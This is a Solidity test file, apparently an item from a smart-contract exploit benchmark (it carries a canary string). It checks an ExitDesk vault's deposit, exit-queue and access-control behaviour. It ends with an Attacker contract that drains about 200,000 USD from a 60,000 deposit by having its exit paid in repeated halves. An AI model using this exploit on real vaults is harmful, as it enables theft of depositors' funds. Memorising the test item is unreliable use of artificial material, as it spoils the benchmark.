// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ExitDesk.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {SafeCast} from "@openzeppelin/contracts@5.4.0/utils/math/SafeCast.sol";

// assay-canary-4335af16-e6e2-48a8-a5bd-e374fe3ef9d8

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant MANAGER = address(0x3A);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Usd private usd;
    ExitDesk private desk;
    Attacker private mallory;

    function setUp() public {
        usd = new Usd();
        desk = new ExitDesk(usd, ADMIN);
        bytes32 role = desk.MANAGER_ROLE();
        vm.prank(ADMIN);
        desk.grantRole(role, MANAGER);
        _fund(ANA, 300_000e6);
        _fund(BEN, 100_000e6);
        _fund(MANAGER, 20_000e6);
        vm.prank(ANA);
        desk.deposit(300_000e6);
        mallory = new Attacker(desk, usd);
        usd.transfer(address(mallory), 60_000e6);
    }

    function _fund(address who, uint256 amount) private {
        usd.transfer(who, amount);
        vm.prank(who);
        usd.approve(address(desk), type(uint256).max);
    }

    function test_Regular() public {
        vm.prank(BEN);
        uint256 shares = desk.deposit(100_000e6);
        require(shares == 100_000e12 && desk.sharesOf(BEN) == shares && desk.totalAssets() == 400_000e6, "deposited");
        vm.startPrank(MANAGER);
        desk.invest(390_000e6);
        desk.divest(0, 40_000e6);
        vm.stopPrank();
        require(desk.totalAssets() == 440_000e6 && desk.invested() == 430_000e6, "a profit");

        vm.prank(BEN);
        require(desk.requestExit(shares) == 0, "first place");
        uint256 worth = desk.exitOf(0).assets;
        require(worth > 110_000e6 - 100 && worth <= 110_000e6, "with its profit");
        require(desk.processQueue(shares) == 0 && desk.head() == 0, "not there yet");
        vm.startPrank(MANAGER);
        desk.divest(150_000e6, 0);
        vm.stopPrank();
        vm.startPrank(ANA);
        uint256 place = desk.requestExit(50_000e12);
        desk.cancelExit(place);
        require(desk.sharesOf(ANA) <= 300_000e12 && desk.sharesOf(ANA) > 299_999e12, "given up");
        place = desk.requestExit(10_000e12);
        vm.stopPrank();
        require(place == 2 && desk.processQueue(type(uint256).max) > 120_999e6, "two places");
        require(desk.head() == 3 && usd.balanceOf(BEN) == worth, "paid");

        // a loss is for those who stay
        vm.startPrank(MANAGER);
        desk.divest(200_000e6, -30_000e6);
        desk.renounceRole(desk.MANAGER_ROLE(), MANAGER);
        vm.stopPrank();
        require(desk.invested() == 50_000e6, "a loss");
        bytes32 role = desk.MANAGER_ROLE();
        vm.startPrank(ADMIN);
        desk.grantRole(role, ADMIN);
        desk.revokeRole(role, ADMIN);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes32 role = desk.MANAGER_ROLE();
        bytes memory lacks =
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, role);
        vm.startPrank(BEN);
        vm.expectRevert(lacks);
        desk.invest(1);
        vm.expectRevert(lacks);
        desk.divest(0, 1);
        vm.stopPrank();
    }

    function test_RefusesNothing() public {
        vm.startPrank(ANA);
        vm.expectRevert("ExitDesk: nothing");
        desk.deposit(0);
        vm.expectRevert("ExitDesk: nothing");
        desk.requestExit(1);
        vm.stopPrank();
    }

    function test_RefusesPlacesOfOthers() public {
        vm.prank(ANA);
        desk.requestExit(1_000e12);
        vm.prank(BEN);
        vm.expectRevert("ExitDesk: not yours");
        desk.cancelExit(0);
        vm.startPrank(ANA);
        desk.processQueue(1_000e12);
        vm.expectRevert("ExitDesk: not yours");
        desk.cancelExit(0);
        desk.requestExit(1_000e12);
        desk.cancelExit(1);
        vm.expectRevert("ExitDesk: not yours");
        desk.cancelExit(1);
        vm.stopPrank();
    }

    function test_RefusesLossesThatNobodyCanBear() public {
        vm.startPrank(MANAGER);
        vm.expectRevert(abi.encodeWithSelector(SafeCast.SafeCastOverflowedIntToUint.selector, -1));
        desk.divest(0, -1);
        desk.invest(200_000e6);
        vm.stopPrank();
        vm.prank(ANA);
        desk.requestExit(300_000e12);
        require(desk.totalAssets() == 0, "all in the queue");
        vm.prank(MANAGER);
        vm.expectRevert(abi.encodeWithSelector(SafeCast.SafeCastOverflowedIntToUint.selector, -100_000e6));
        desk.divest(0, -100_000e6);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 200_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Lets its place be paid by halves.
contract Attacker {
    ExitDesk private desk;
    IERC20 private usd;

    constructor(ExitDesk desk_, IERC20 usd_) {
        desk = desk_;
        usd = usd_;
    }

    function run() external {
        usd.approve(address(desk), type(uint256).max);
        uint256 shares = desk.deposit(60_000e6);
        uint256 id = desk.requestExit(shares);
        for (uint256 i; i < 8; ++i) desk.processQueue(desk.exitOf(id).shares / 2);
    }
}
